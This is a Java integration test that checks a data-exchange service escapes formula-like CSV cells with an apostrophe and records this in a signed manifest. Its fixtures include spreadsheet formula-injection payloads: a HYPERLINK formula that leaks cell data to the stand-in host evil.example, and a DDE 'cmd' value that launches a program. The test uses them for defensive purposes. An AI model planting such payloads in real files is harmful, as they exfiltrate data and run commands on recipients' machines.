package cn.onenet.exchange.rest;

import static io.restassured.RestAssured.given;
import static org.hamcrest.Matchers.equalTo;
import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertFalse;
import static org.junit.jupiter.api.Assertions.assertNull;
import static org.junit.jupiter.api.Assertions.assertTrue;

import java.io.StringReader;
import java.nio.charset.StandardCharsets;
import java.util.ArrayList;
import java.util.List;
import java.util.Map;

import org.apache.commons.csv.CSVFormat;
import org.apache.commons.csv.CSVRecord;
import org.junit.jupiter.api.Test;

import com.fasterxml.jackson.databind.ObjectMapper;
import com.nimbusds.jose.JWSObject;
import com.nimbusds.jose.Payload;
import com.nimbusds.jose.crypto.Ed25519Verifier;
import com.nimbusds.jose.jwk.JWKSet;
import com.nimbusds.jose.jwk.OctetKeyPair;

import cn.onenet.exchange.ExchangeTestBase;
import cn.onenet.exchange.FakeCatalog;
import cn.onenet.exchange.service.DemoData;
import io.quarkus.test.junit.QuarkusTest;
import io.restassured.http.ContentType;
import io.restassured.response.Response;

/**
 * A provider's values that a spreadsheet would run as formulas (=, +, -, @, tab, carriage return) leave a CSV export
 * as text: one apostrophe in front, said in the sealed manifest, so the recipient gets every value back exactly and
 * the manifest's SHA-256 is over the file as delivered. JSON Lines carry the values unchanged.
 */
@QuarkusTest
class ExportFormulaEscapingTest extends ExchangeTestBase {

    static final String CODE = "330000-01-02/905694";
    static final String CONSUMER = DemoData.CIVIL_AFFAIRS;

    /** Occupations as a provider's system might hold them, one per record (in key order). */
    static final List<String> VALUES = List.of("=HYPERLINK(\"http://evil.example/\"&A1,\"点击\")", "+86-571-1234",
            "-2+3", "@SUM(A1:A9)", "'=already quoted", "\tcmd|' /C calc'!A0", "教师", "a=b");

    /** Valid 公民身份号码, ascending: the export lists the records in this order. */
    static final List<String> KEYS = List.of("330106198807072002", "330106198807072010", "330106198807072029",
            "330106198807072037", "330106198807072045", "330106198807072053", "330106198807072061",
            "33010619880707207X");

    @Test
    @SuppressWarnings("unchecked")
    void formulaLikeCellsAreEscapedSaidInTheManifestAndReadBackExactly() throws Exception {
        FakeCatalog.add("PUBLISHED", CODE, "测试导出公式目录", RequestWorkflowTest.PROVIDER, "UNCONDITIONAL", "LEVEL_1",
                "GMSFHM", List.of(Map.of("code", "GMSFHM", "name", "公民身份号码", "sensitive", true),
                        Map.of("code", "ZY", "name", "职业", "sensitive", false)));
        replica.pollOnce();
        List<Map<String, Object>> records = new ArrayList<>();
        for (int i = 0; i < VALUES.size(); i++) {
            records.add(Map.of("GMSFHM", KEYS.get(i), "ZY", VALUES.get(i)));
        }
        given().urlEncodingEnabled(false).auth().oauth2(operator(RequestWorkflowTest.PROVIDER))
                .contentType(ContentType.JSON).body(records)
                .post("/api/exchange/v1/datasets/" + FakeCatalog.encoded(CODE) + "/records").then().statusCode(201);
        long grant = RequestWorkflowTest.file(operator(CONSUMER), DeliveryMethodTest.body(CODE, List.of("ZY"), "BULK"))
                .then().statusCode(201).body("status", equalTo("GRANTED")).extract().jsonPath().getLong("grantId");

        Response job = ExportStreamingTest.ready(operator(CONSUMER), grant, "CSV");
        byte[] bytes = given().auth().oauth2(operator(CONSUMER))
                .get("/api/exchange/v1/exports/" + job.jsonPath().getLong("id") + "/content").then().statusCode(200)
                .contentType("text/csv").extract().asByteArray();
        String text = new String(bytes, StandardCharsets.UTF_8);

        // the manifest says how the file was written, and its seal and digest are over the file as delivered
        Map<String, Object> manifest = new ObjectMapper().readValue(job.jsonPath().getString("manifestJson"),
                Map.class);
        assertEquals("apostrophe-prefix", manifest.get("csvFormulaEscaping"));
        assertEquals(6, ((Number) manifest.get("csvFormulaEscapedCells")).intValue());
        assertEquals(manifest.get("sha256"), UsageLogTest.sha256Bytes(bytes));
        JWKSet jwks = JWKSet.parse(given().get("/api/exchange/v1/seals/jwks").asString());
        JWSObject seal = JWSObject.parse(job.jsonPath().getString("manifestSeal"),
                new Payload(job.jsonPath().getString("manifestJson").getBytes(StandardCharsets.UTF_8)));
        assertTrue(seal.verify(new Ed25519Verifier((OctetKeyPair) jwks.getKeyByKeyId(seal.getHeader().getKeyID()))));

        // no cell a spreadsheet opens starts a formula
        List<CSVRecord> rows = CSVFormat.DEFAULT.parse(new StringReader(text)).getRecords();
        assertEquals(List.of("ZY"), rows.get(0).toList());
        List<String> cells = rows.subList(1, rows.size()).stream().map(r -> r.get(0)).toList();
        assertEquals(VALUES.size(), cells.size());
        for (String cell : cells) {
            assertFalse(cell.matches("(?s)^[=+\\-@\\t\\r].*"), "runs as a formula: " + cell);
        }
        assertEquals("'=HYPERLINK(\"http://evil.example/\"&A1,\"点击\")", cells.get(0));
        assertEquals("''=already quoted", cells.get(4));
        assertEquals("教师", cells.get(6));

        // taking one apostrophe off as the manifest's scheme says gives the provider's values back
        List<String> readBack = cells.stream()
                .map(c -> c.matches("(?s)^''*[=+\\-@\\t\\r].*") ? c.substring(1) : c).toList();
        assertEquals(VALUES, readBack);

        // JSON Lines are not opened as spreadsheets: values unchanged, no escaping named
        Response jsonl = ExportStreamingTest.ready(operator(CONSUMER), grant, "JSONL");
        assertNull(jsonl.jsonPath().get("manifest.csvFormulaEscaping"));
        String lines = given().auth().oauth2(operator(CONSUMER))
                .get("/api/exchange/v1/exports/" + jsonl.jsonPath().getLong("id") + "/content").then().statusCode(200)
                .extract().asString();
        ObjectMapper json = new ObjectMapper();
        List<Object> values = new ArrayList<>();
        for (String line : lines.lines().toList()) {
            values.add(json.readValue(line, Map.class).get("ZY"));
        }
        assertEquals(VALUES, values);
    }
}
